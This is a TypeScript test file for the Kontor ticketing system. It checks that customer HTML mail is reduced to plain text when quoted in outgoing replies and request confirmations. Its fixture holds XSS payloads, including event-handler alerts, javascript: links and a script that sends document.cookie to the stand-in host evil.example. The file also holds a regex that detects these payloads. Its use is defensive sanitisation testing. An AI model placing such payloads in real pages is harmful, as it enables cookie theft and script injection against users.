import { randomUUID } from 'node:crypto';
import type pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ServerOnTestDatabase } from '../../harness/kontor-server.js';
import { startSmtpReceiver, type SmtpReceiver } from '../../harness/smtp-receiver.js';
import { addArticle, expectApplied, inspect, send } from '../mutations/support.js';
import { tokenFor } from '../support/http.js';
import { customer, customerTicket, mailSection, outboxOf, receivedMail, startMailServer } from './support.js';

/** A customer's mail as mail-in stores it: the HTML as received, with everything a hostile sender could put in. */
const hostileHtml = [
  '<html><head><style>p { color: red }</style><script>alert("head")</script></head>',
  '<body onload="alert(1)"><p onclick="alert(2)">Guten Tag,</p>',
  '<p>bitte <b>dringend</b> zurückrufen &amp; den Auszug schicken.</p>',
  '<img src="https://tracker.example/pixel.png" onerror="alert(3)">',
  '<script>document.location = "https://evil.example/?" + document.cookie</script>',
  '<a href="javascript:alert(4)" onmouseover="alert(5)">Mit freundlichen Grüßen</a></body></html>',
].join('\n');

/** Anything that would be markup in a text part, or the words of the script and attributes that must not survive. */
const tag = /<\/?[a-z][^>]*>/iu;
const activeLeftovers = /alert|evil\.example|tracker\.example|javascript:/iu;

// A mailed-in customer article's body is the HTML as received (docs/mail-in.md). What Kontor
// mails about it (the reply's quote, the confirmation of the request) carries its text: no
// escaped tags for the customer to read, no markup of the sender's in Kontor's mail.
describe("a customer's HTML mail in Kontor's mails", () => {
  let receiver: SmtpReceiver;
  let running: ServerOnTestDatabase;
  let db: pg.Pool;
  let token: string;
  const siobhan = customer('soconnor');

  beforeAll(async () => {
    receiver = await startSmtpReceiver();
    running = await startMailServer(mailSection(receiver));
    db = inspect(running.database.url);
    token = await tokenFor(running.url, 'mmueller');
  });
  afterAll(async () => {
    await db.end();
    await running.close();
    await receiver.stop();
  });

  const received = (messageId: string): ReturnType<typeof receivedMail> => receivedMail(receiver, messageId);

  function expectTextOnly(mail: Awaited<ReturnType<typeof receivedMail>>): void {
    expect(mail.text).not.toMatch(tag);
    expect(mail.text).not.toMatch(activeLeftovers);
    expect(mail.html).not.toMatch(/<script|<style[^>]*>p|<img|<a href="javascript|\son[a-z]+\s*=/iu);
    expect(mail.html).not.toMatch(activeLeftovers);
    // The customer's tags are gone, not shown as text.
    expect(mail.html).not.toMatch(/&lt;\/?(p|b|img|script|html|body)\b/iu);
  }

  it('quotes the text of the last customer mail below an e-mail reply, in the text part and escaped in the HTML part', async () => {
    const create = customerTicket(siobhan.id);
    expectApplied((await send(running.url, token, create))[0]);
    expectApplied((await send(running.url, token, addArticle(create.ticketId, { channel: 'email', visibility: 'customer-visible', sender: 'customer', subject: 'Rückruf', body: hostileHtml })))[0]);
    expectApplied((await send(running.url, token, addArticle(create.ticketId, { channel: 'email', visibility: 'customer-visible', sender: 'agent', subject: 'Ihr Rückruf', body: 'Wir rufen Sie heute an.' })))[0]);
    const reply = (await outboxOf(db, create.ticketId)).at(-1);
    expect(reply?.kind).toBe('agent-reply');
    const mail = await received(reply?.message_id ?? '');

    // Paragraphs as lines (an empty quoted line between some of them), nothing of the script, style or attributes.
    expect(mail.text).toMatch(/schrieb Siobhán O'Connor:\n> Guten Tag,\n(> \n)?> bitte dringend zurückrufen & den Auszug schicken\.\n(> \n)?> Mit freundlichen Grüßen\n\n/u);
    expect(mail.html).toMatch(/<blockquote[^>]*>Guten Tag,<br>\n(<br>\n)?bitte dringend zurückrufen &amp; den Auszug schicken\./u);
    expectTextOnly(mail);
  });

  it("confirms a request opened with a customer's HTML mail with its text", async () => {
    const create = customerTicket(siobhan.id, {
      title: 'Rückruf erbeten',
      article: { articleId: randomUUID(), channel: 'email', visibility: 'customer-visible', sender: 'customer', subject: 'Rückruf erbeten', body: hostileHtml },
    });
    expectApplied((await send(running.url, token, create))[0]);
    const [created] = await outboxOf(db, create.ticketId);
    expect(created?.kind).toBe('created');
    const mail = await received(created?.message_id ?? '');
    expect(mail.text).toContain('bitte dringend zurückrufen & den Auszug schicken.');
    expectTextOnly(mail);
  });

  it('leaves a text body that merely mentions a tag as it was written, escaped in HTML', async () => {
    const create = customerTicket(siobhan.id);
    expectApplied((await send(running.url, token, create))[0]);
    const plain = 'Im Feld steht "<Kontonummer>" statt der Nummer.';
    expectApplied((await send(running.url, token, addArticle(create.ticketId, { channel: 'email', visibility: 'customer-visible', sender: 'customer', subject: 'Feld', body: plain })))[0]);
    expectApplied((await send(running.url, token, addArticle(create.ticketId, { channel: 'email', visibility: 'customer-visible', sender: 'agent', subject: 'Feld', body: 'Behoben.' })))[0]);
    const mail = await received((await outboxOf(db, create.ticketId)).at(-1)?.message_id ?? '');
    expect(mail.text).toContain(`> ${plain}`);
    expect(mail.html).toContain('&lt;Kontonummer&gt;');
  });
});
